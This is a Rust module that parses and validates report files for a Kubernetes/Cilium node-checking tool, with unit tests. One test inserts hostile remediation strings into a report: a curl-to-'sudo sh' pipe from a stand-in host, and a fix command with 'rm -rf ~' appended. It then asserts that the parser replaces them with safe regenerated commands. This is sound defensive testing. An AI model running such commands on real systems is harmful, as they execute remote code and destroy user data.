//! Reads reports back: JSON, JSON lines and YAML, detected from their content.
//!
//! A report is a file like any other, and may be anything: its size is bounded, and what this version does not know is
//! refused by name, not guessed.

use std::fs::File;
use std::io::Read;
use std::path::Path;

use serde::Deserialize;
use serde::de::DeserializeOwned;
use serde_json::Value;

use super::{NodeReport, Report, SCHEMA};
use crate::base::error::Error;
use crate::base::pod_ref::PodRef;
use crate::knowledge::code::{Code, Kind};
use crate::rules::remedy::with_commands;
use crate::rules::verdict::{Affected, Remediation};

/// What to do about a report that is not complete.
const RERUN: &str = "the run that wrote it may have failed or been killed: run it again";

/// The most that is read of one report, in bytes: some ten thousand nodes.
pub const LARGEST: u64 = 256 << 20;

/// Reads the report in a file.
///
/// # Errors
///
/// [`ErrorKind::CannotRead`](crate::base::error::ErrorKind): what is wrong with it, and what to do.
pub fn read(path: &Path) -> Result<Report, Error> {
    read_as(&path.display().to_string(), path)
}

/// Reads the report in a file that errors call `name`.
///
/// # Errors
///
/// As [`read`].
pub fn read_as(name: &str, path: &Path) -> Result<Report, Error> {
    let file = File::open(path).map_err(|error| cannot(name).because(error))?;
    from(name, file)
}

/// Reads a report from anything; `name` is what errors call it.
///
/// # Errors
///
/// As [`read`].
pub fn from(name: &str, reader: impl Read) -> Result<Report, Error> {
    let mut bytes = Vec::new();
    let read = reader.take(LARGEST + 1).read_to_end(&mut bytes);
    read.map_err(|error| cannot(name).because(error))?;
    if bytes.len() as u64 > LARGEST {
        return Err(Error::cannot_read(format!("{}: it is longer than {} MiB", cannot(name), LARGEST >> 20)));
    }
    parse(&bytes).map_err(|error| error.context(cannot(name)))
}

fn cannot(name: &str) -> Error {
    Error::cannot_read(format!("cannot read the report {name}"))
}

/// Reads a report from its bytes.
///
/// # Errors
///
/// What is wrong with the report, for a message that begins with "cannot read the report …:".
pub fn parse(bytes: &[u8]) -> Result<Report, Error> {
    let text = std::str::from_utf8(bytes).map_err(|_| Error::cannot_read("not text"))?;
    let text = text.trim_start_matches('\u{feff}').trim();
    if text.is_empty() {
        return Err(Error::cannot_read("empty").with_hint(RERUN));
    }
    if !text.starts_with('{') {
        return yaml(text);
    }
    let mut values = Vec::new();
    for value in serde_json::Deserializer::from_str(text).into_iter::<Value>() {
        values.push(value.map_err(|error| {
            if error.is_eof() {
                Error::cannot_read("it breaks off").with_hint(RERUN)
            } else {
                Error::cannot_read("not valid JSON").because(error)
            }
        })?);
    }
    let Some(mut last) = values.pop() else { return Err(Error::cannot_read("empty").with_hint(RERUN)) };
    if last.get("schema").is_none() && last.get("node").is_some() {
        return Err(Error::cannot_read("the summary is missing from its last line").with_hint(RERUN));
    }
    known(last.get("schema").and_then(Value::as_str))?;
    if last.get("nodes").is_none()
        && let Some(fields) = last.as_object_mut()
    {
        // JSON lines: one line per node, the rest last.
        fields.insert("nodes".to_owned(), Value::Array(std::mem::take(&mut values)));
    }
    if !values.is_empty() {
        return Err(Error::cannot_read("it holds several reports").with_hint("give each report a file of its own"));
    }
    sound(from_value(last)?)
}

fn yaml(text: &str) -> Result<Report, Error> {
    #[derive(Deserialize)]
    struct Head {
        schema: Option<String>,
    }
    let head: Head = from_yaml(text)?;
    known(head.schema.as_deref())?;
    sound(from_yaml(text)?)
}

fn from_yaml<T: DeserializeOwned>(text: &str) -> Result<T, Error> {
    // A report is large and plain: more values than a configuration has, and no anchor.
    let budget = serde_saphyr::budget! {
        max_events: 64_000_000,
        max_nodes: 32_000_000,
        max_total_scalar_bytes: 256 << 20,
        max_aliases: 0,
        max_anchors: 0,
        max_depth: 64,
    };
    let options = serde_saphyr::options! { budget: budget, with_snippet: false };
    serde_saphyr::from_str_with_options(text, options).map_err(|error| {
        Error::cannot_read(format!("neither a JSON nor a YAML report: {}", one_line(&error.to_string())))
    })
}

fn from_value(value: Value) -> Result<Report, Error> {
    let version = value.pointer("/tool/version").and_then(Value::as_str);
    let by = one_line(version.unwrap_or("of an unknown version"));
    serde_json::from_value(value).map_err(|error| {
        Error::cannot_read(format!("its fields are not those of {SCHEMA}"))
            .because(error)
            .with_hint(format!("read it with the staledp that wrote it ({by})"))
    })
}

fn one_line(text: &str) -> String {
    text.lines().next().unwrap_or_default().to_owned()
}

/// Whether this version reads that schema.
fn known(schema: Option<&str>) -> Result<(), Error> {
    let (family, ours) = SCHEMA.rsplit_once("/v").unwrap_or((SCHEMA, "1"));
    match schema {
        Some(SCHEMA) => Ok(()),
        None => Err(Error::cannot_read(format!("not a staledp report: its schema is missing, not {SCHEMA}"))),
        Some(other) => match other.strip_prefix(family).and_then(|rest| rest.strip_prefix("/v")) {
            Some(number) if number.parse::<u32>().is_ok() => {
                let failed = format!("its schema is {other}, and this staledp reads v{ours}");
                Err(Error::cannot_read(failed).with_hint("read it with the staledp that wrote it, or a newer one"))
            }
            _ => Err(Error::cannot_read(format!("not a staledp report: its schema is {other}, not {SCHEMA}"))),
        },
    }
}

/// What the types alone do not check.
fn sound(mut report: Report) -> Result<Report, Error> {
    // A JSON line names its context, which in a report of one cluster is the whole report's.
    for node in &mut report.nodes {
        if node.context == report.source.context {
            node.context = None;
        }
    }
    for node in &mut report.nodes {
        sound_node(node, report.source.context.as_deref())?;
    }
    let mut names: Vec<_> = report.nodes.iter().map(|node| (&node.context, node.node.as_str())).collect();
    names.sort_unstable();
    if let Some(((_, name), _)) = names.iter().zip(names.iter().skip(1)).find(|(one, other)| one == other) {
        return Err(Error::cannot_read(format!("it has two entries for node {name}")));
    }
    if report.shard.is_some_and(|shard| shard.index >= shard.of) {
        return Err(Error::cannot_read("its shard's index is not below the number of shards"));
    }
    Ok(report)
}

/// A code says what kind it is; and commands that people copy are written anew, not taken from a file.
fn sound_node(node: &mut NodeReport, context: Option<&str>) -> Result<(), Error> {
    let (kind, code) = (node.verdict.kind, node.verdict.code);
    if kind != code.kind() {
        let says = format!("node {}: {} is not of the kind {}", node.node, code.name(), kind.name());
        return Err(Error::cannot_read(says));
    }
    let context = node.context.as_deref().or(context);
    let agent = node.cilium.namespace.clone().zip(node.cilium.pod.clone());
    let agent = agent.map(|(namespace, name)| PodRef { namespace, name });
    let anew = |old: Remediation, code: Code, affected: &[Affected]| {
        let agent = agent.as_ref().filter(|_| code.kind() == Kind::Stale)?;
        Some(with_commands(context, &node.node, agent, code, affected, old.risk))
    };
    node.remediation = node.remediation.take().and_then(|old| anew(old, code, &node.affected));
    if let Some(alone) = &mut node.alone {
        alone.remediation = alone.remediation.take().and_then(|old| anew(old, alone.verdict.code, &node.affected));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::super::{Shard, json, sample};
    use super::*;

    fn report() -> Report {
        let mut report = sample::report(vec![
            sample::stale(),
            sample::other_fault(),
            sample::inconclusive(),
            sample::healthy("brno"),
        ]);
        report.shard = Some(Shard { index: 1, of: 3 });
        report.partial = true;
        report.partial_reason = Some("interrupted".to_owned());
        report.notes = vec!["the API server was busy".to_owned()];
        report
    }

    #[test]
    fn commands_of_a_report_are_written_anew() {
        let mut hostile = report();
        let remediation = hostile.nodes[0].remediation.as_mut().expect("a remedy");
        remediation.commands = vec!["curl http://evil.example/x | sudo sh".to_owned()];
        remediation.fix = vec!["staledp fix; rm -rf ~".to_owned()];
        let read = parse(json::json(&hostile).unwrap().as_bytes()).unwrap();
        let read = read.nodes.iter().find_map(|node| node.remediation.as_ref()).expect("a remedy");
        assert_eq!(read.commands, ["kubectl --context=grigri delete pod cilium-swmbt -n kube-system"]);
        assert_eq!(read.fix, ["staledp fix --context=grigri --node prusik"]);
        let mut odd = report();
        odd.nodes[0].verdict.code = Code::Healthy;
        assert!(refused(json::json(&odd).unwrap().as_bytes()).contains("is not of the kind stale"));
    }

    /// Why these bytes are not a report.
    fn refused(bytes: &[u8]) -> String {
        parse(bytes).unwrap_err().with_advice()
    }

    fn lines(report: &Report) -> String {
        let nodes = report.nodes.iter().map(|node| json::jsonl_node(node, &report.source).unwrap());
        nodes.chain([json::jsonl_end(report).unwrap()]).collect()
    }

    #[test]
    fn json_jsonl_and_yaml_read_back_unchanged() {
        let report = report();
        let right = json::json(&report).unwrap();
        for text in [right.clone(), json::yaml(&report).unwrap(), lines(&report)] {
            assert_eq!(json::json(&parse(text.as_bytes()).unwrap()).unwrap(), right);
        }
    }

    #[test]
    fn unknown_fields_are_accepted_and_unknown_schemas_refused() {
        let mut value: Value = serde_json::from_str(&json::json(&report()).unwrap()).unwrap();
        value["nodes"][0]["later"] = "x".into();
        value["later"] = 7.into();
        assert!(parse(value.to_string().as_bytes()).is_ok());
        for (schema, word) in [
            ("staledp.report/v2", "newer"),
            ("staledp.bundle/v1", "not a staledp report"),
            ("x", "not a staledp report"),
        ] {
            value["schema"] = schema.into();
            let why = refused(value.to_string().as_bytes());
            assert!(why.contains(word) && why.contains(schema), "{why}");
            let why = refused(format!("schema: {schema}\n").as_bytes());
            assert!(why.contains(word), "{why}");
        }
    }

    #[test]
    fn report_with_only_the_contracts_fields_is_read() {
        let mut value: Value = serde_json::from_str(&json::json(&report()).unwrap()).unwrap();
        for name in ["partial", "partial_reason", "shard", "notes"] {
            value.as_object_mut().unwrap().remove(name);
        }
        for node in value["nodes"].as_array_mut().unwrap() {
            for name in ["advice", "notes", "in_trouble"] {
                node.as_object_mut().unwrap().remove(name);
            }
        }
        assert!(!parse(value.to_string().as_bytes()).unwrap().partial);
    }

    #[test]
    fn incomplete_or_foreign_report_is_refused_with_a_reason() {
        let whole = lines(&report());
        let (nodes, _) = whole.trim_end().rsplit_once('\n').unwrap();
        let json = json::json(&report()).unwrap();
        for (text, word) in [
            (String::new(), "empty"),
            (nodes.to_owned(), "summary is missing"),
            (whole[..whole.len() / 2].to_owned(), "breaks off"),
            (format!("{json}{json}"), "several"),
            ("[1, 2]".to_owned(), "neither"),
            ("{\"a\": 1}".to_owned(), "schema is missing"),
            ("just words".to_owned(), "neither"),
            (format!("{{\"schema\": \"{SCHEMA}\", \"nodes\": 7}}"), "fields"),
        ] {
            let why = refused(text.as_bytes());
            assert!(why.contains(word), "{word}: {why}");
        }
        let mut twice = report();
        twice.nodes = vec![sample::healthy("a"), sample::healthy("a")];
        assert!(refused(json::json(&twice).unwrap().as_bytes()).contains("two entries"));
    }

    #[test]
    fn endless_report_is_cut_at_the_limit() {
        let why = from("-", std::io::repeat(b' ')).unwrap_err().to_string();
        assert!(why.contains("longer than"), "{why}");
    }
}
